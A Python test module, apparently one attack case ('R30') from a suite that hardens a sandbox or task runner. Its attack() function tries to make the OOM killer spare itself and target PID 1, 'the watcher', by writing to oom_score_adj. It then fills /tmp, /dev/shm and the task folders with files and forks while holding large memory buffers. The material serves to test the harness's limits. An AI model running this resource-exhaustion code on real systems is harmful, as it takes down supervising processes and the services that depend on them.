"""R30  Fills memory with files, which no killing gives back, so that the first process of the box is what is left to kill.
EXPECT memory cpu crashed wrong timed-out
WAY metric
"""
import os

import armed


def attack():
    armed.ran("R30")
    armed.probe("oom_score_adj", lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000"))
    armed.probe("oom_score_adj of the watcher", lambda: os.write(os.open("/proc/1/oom_score_adj", os.O_WRONLY), b"1000"))
    held = []
    for folder in ("/task/work", "/tmp", "/dev/shm", "/task/out"):
        try:
            with open(folder + "/fill", "wb", buffering=0) as file:
                while file.write(b"x" * (1 << 20)):
                    pass
        except OSError:
            pass
    for _ in range(armed.most(8)):
        os.fork()
        held.append(bytearray(b"x" * (32 << 20)))
